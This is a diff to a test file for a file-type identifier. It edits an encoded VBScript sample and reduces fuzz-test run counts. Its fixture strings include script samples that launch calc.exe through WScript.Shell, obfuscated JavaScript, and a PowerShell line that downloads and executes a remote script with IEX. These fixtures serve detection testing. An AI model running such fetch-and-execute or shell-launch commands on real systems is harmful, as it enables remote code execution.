@@ -153,7 +153,7 @@ const TEXTS: readonly (readonly [type: FileTypeId, content: string])[] = [
   ["js", 'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc.exe");\n'],
   ["js", "(function() { document.getElementById('x').innerHTML = String.fromCharCode(65, 66); })();"],
   ["js", `${"[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]".repeat(3)}()`],
-  ["vbe", "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"],
+  ["vbe", "#@~^DgAAAA==\\ko$K6,JC6V^GJqAQAAA==^#~@"],
   ["vbs", 'Dim sh\nSet sh = CreateObject("WScript.Shell")\nsh.Run "cmd /c calc", 0, False\n'],
   ["vbs", "On Error Resume Next\nExecute(Chr(77) & Chr(115) & Chr(103))\n"],
   ["ps1", "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"],
@@ -238,7 +238,7 @@ test.each([
   ["vbe", "a.vbe"],
   ["jse", "a.jse"],
 ])("an encoded script is %s by its name", (type, name) => {
-  expect(identify(bytes("#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"), { name }).type).toBe(type);
+  expect(identify(bytes("#@~^DgAAAA==\\ko$K6,JC6V^GJqAQAAA==^#~@"), { name }).type).toBe(type);
 });
 
 test("the sentence follows libmagic for what the service shows", () => {
@@ -293,7 +293,7 @@ test("arbitrary bytes and names are identified without a throw", () => {
         identify(content, { name, sizeBytes: content.length + more, tail: content });
       },
     ),
-    { numRuns: 500 },
+    { numRuns: 150 },
   );
 });
 
@@ -310,7 +310,7 @@ test("mutated valid files are identified without a throw", () => {
         identify(content, { tail: content.subarray(-500), sizeBytes: content.length + 1 });
       },
     ),
-    { numRuns: 1000 },
+    { numRuns: 300 },
   );
 });
 
